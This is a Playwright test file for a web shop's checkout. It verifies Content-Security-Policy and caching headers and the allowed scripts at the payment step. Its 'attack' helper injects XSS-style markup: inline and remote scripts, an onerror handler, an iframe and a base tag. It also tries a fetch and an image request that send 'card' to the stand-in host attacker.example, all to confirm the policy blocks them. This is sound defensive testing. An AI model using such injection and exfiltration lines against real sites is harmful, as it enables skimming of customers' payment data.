import type { APIResponse, Page, Response } from "@playwright/test";
import { bringCart } from "./cart.steps.ts";
import { continueToPayment, fillBilling, openCheckout } from "./checkout.steps.ts";
import { expect, shop, test } from "./fixtures.ts";
import { cap } from "./gateway/shopping.steps.ts";
import { untilHydrated } from "./hydration.steps.ts";

// Every other test that opens a page also fails on policy violations, because the browser logs them to its console.

/** The policy's directives, with the hashes of the page's own scripts replaced by "own". */
function policyOf(response: Response | APIResponse | null): Record<string, string> {
  const header = response?.headers()["content-security-policy"] ?? "";
  const parts = header.split("; ").map((part) => part.split(" "));
  const readable = (source: string) => (source.startsWith("'sha256-") ? "own" : source);
  return Object.fromEntries(parts.map(([name, ...sources]) => [name, [...new Set(sources.map(readable))].join(" ")]));
}

/** The page's scripts: the URL of each file, and the first words of each inline script. */
const scriptsOf = (page: Page) =>
  page.evaluate(() =>
    [...document.scripts]
      .filter(({ type }) => type === "" || type === "module")
      .map(({ src, textContent }) => src || textContent.trim().slice(0, 32)),
  );

/** First words of the shop's inline scripts. */
const ownWords = [
  // React Router: restores the scroll position and starts the page's modules with loader data.
  /^\(\(storageKey, restoreKey\)/,
  /^window\.__reactRouterContext/,
  /^import "\/assets\//,
  // Detects unsupported browsers, and records clicks before hydration.
  /^if\(!\(\[\]\.toSorted&&window\.CSS/,
  /^window\.isOldBrowser\|\|addEventLis/,
];

/** Tries what injected markup could do. Records on `window` what ran and what was blocked. */
function attack(page: Page): Promise<void> {
  return page.evaluate(() => {
    const ran: string[] = [];
    const stopped = new Set<string>();
    Object.assign(window, { ran, stopped });
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => stopped.add(effectiveDirective));
    const append = (place: HTMLElement, tag: string, attributes: object) =>
      place.append(Object.assign(document.createElement(tag), attributes));
    const address = "https://attacker.example/";

    append(document.body, "script", { textContent: "ran.push('inline')" });
    append(document.body, "script", { src: address });
    append(document.body, "div", { innerHTML: "<img src='' onerror='ran.push(1)'><b style='color: red'>Sale</b>" });
    append(document.body, "iframe", { src: address });
    append(document.body, "img", { src: `${address}?card` });
    append(document.head, "style", { textContent: "body { display: none }" });
    append(document.head, "base", { href: address });
    void fetch(address, { method: "POST", body: "card" }).then(
      () => ran.push("fetch"),
      () => undefined,
    );
    // In its own task: code that Playwright evaluates directly is exempt from the policy.
    setTimeout(() => {
      // oxlint-disable-next-line no-implied-eval, typescript/no-implied-eval
      new Function("ran.push('text')")();
    });
  });
}

/** The names that `attack` has recorded so far. */
const noted = (page: Page, what: "ran" | "stopped") =>
  page.evaluate((name) => [...(Reflect.get(window, name) as Iterable<string>)].toSorted(), what);

const documentAt = (page: Page, path: string) =>
  page.waitForResponse(
    (response) => response.request().resourceType() === "document" && new URL(response.url()).pathname === path,
  );

const common = () => ({
  "default-src": "'none'",
  "style-src": "'self' own",
  "font-src": "'self'",
  "frame-src": `'self' ${new URL(shop.issuer).origin}`,
  "form-action": "'self'",
  "base-uri": "'none'",
  "frame-ancestors": "'none'",
});

test("at the payment step, only the listed scripts run", { tag: "@desktop" }, async ({ page, consoleErrors }) => {
  await page.route("https://attacker.example/**", (route) =>
    route.fulfill({
      contentType: "text/javascript",
      body: "ran.push('file')",
      headers: { "access-control-allow-origin": "*" },
    }),
  );
  await bringCart(page, cap);
  const fetched: string[] = [];
  page.on("request", (request) => {
    if (request.resourceType() === "script") fetched.push(request.url());
  });
  await openCheckout(page);
  const document = await page.request.get("/checkout?stepId=billing");
  await fillBilling(page);
  await continueToPayment(page);
  await expect(page.getByLabel("Card number")).toBeVisible();

  expect(policyOf(document)).toEqual({
    ...common(),
    "script-src": `'self' own ${shop.payment}/`,
    "img-src": expect.stringMatching(/^'self' http:\/\/localhost:\d+$/) as unknown,
    "connect-src": `'self' ${new URL(shop.issuer).origin} ${shop.payment}`,
  });
  expect(document.headers()["cache-control"]).toBe("no-store");

  // web/payment-scripts.md lists the scripts allowed here.
  const provider = `${shop.payment}/accept.js`;
  const isOwnFile = (url: string) => new RegExp(String.raw`^${shop.url}/assets/[\w.-]+\.js$`).test(url);
  expect(fetched.filter((url) => !isOwnFile(url))).toEqual([provider]);
  const scripts = await scriptsOf(page);
  expect(scripts.filter((script) => !isOwnFile(script) && !ownWords.some((words) => words.test(script)))).toEqual([
    provider,
  ]);

  // There is no nonce that an injected script could reuse.
  expect(await document.text()).not.toContain("nonce");

  expect(consoleErrors).toEqual([]);
  await attack(page);
  await expect
    .poll(() => noted(page, "stopped"))
    .toEqual([
      "base-uri",
      "connect-src",
      "frame-src",
      "img-src",
      "script-src",
      "script-src-attr",
      "script-src-elem",
      "style-src-attr",
      "style-src-elem",
    ]);
  expect(await noted(page, "ran")).toEqual([]);
  // The browser also logged what it blocked.
  consoleErrors.length = 0;
});

test("checkout and shop are separate documents, each with its own policy", { tag: "@desktop" }, async ({ page }) => {
  const shopPolicy = policyOf(await page.goto("/cart"));
  expect(shopPolicy).toMatchObject({ ...common(), "worker-src": "blob:", "style-src-attr": "'unsafe-inline'" });
  expect(shopPolicy["script-src"]).toMatch(/^'self' own http:\/\/localhost:\d+\/$/);
  expect(JSON.stringify(shopPolicy)).not.toContain(shop.payment);

  // Navigates as the router does, not by a link that requests a document.
  await page.waitForFunction(() => "__reactRouterDataRouter" in window && window.__reactRouterDataRouter);
  const toCheckout = documentAt(page, "/checkout");
  await page.evaluate(async () => {
    const { __reactRouterDataRouter: router } = window as unknown as {
      __reactRouterDataRouter: { navigate: (to: string) => Promise<void> };
    };
    void router.navigate("/checkout?stepId=billing");
  });
  expect(policyOf(await toCheckout)["script-src"]).toBe(`'self' own ${shop.payment}/`);
  const toShop = documentAt(page, "/cart");
  await page.getByRole("link", { name: "Go to the cart" }).click();
  expect(policyOf(await toShop)).toEqual(shopPolicy);
});

test(
  "a video plays; pages are cached for seconds, and personal pages not at all",
  { tag: "@desktop" },
  async ({ page }) => {
    const response = await page.goto("/product/product-short/vernier-6");
    expect(response?.headers()).toMatchObject({
      "cache-control": expect.stringMatching(/^public, max-age=\d$/),
      "x-content-type-options": "nosniff",
      "referrer-policy": "strict-origin-when-cross-origin",
      "x-frame-options": "SAMEORIGIN",
      "permissions-policy": "camera=(), microphone=(), geolocation=()",
    });
    expect(response?.headers()).not.toHaveProperty("strict-transport-security");
    // Until then, the film opens in a new tab.
    await untilHydrated(page);
    await page
      .getByRole("link", { name: /^Play the film/ })
      .first()
      .click();
    const film = page.getByRole("dialog").locator("video");
    await expect.poll(() => film.evaluate((video: HTMLVideoElement) => video.readyState)).toBeGreaterThan(1);

    for (const path of [
      "/cart",
      "/register",
      "/confirm/1",
      "/profile",
      "/profile/orders/1",
      "/signin/callback",
      "/checkout",
    ]) {
      const personal = await page.request.get(path);
      expect([path, personal.headers()["cache-control"]]).toEqual([path, "no-store"]);
    }
  },
);
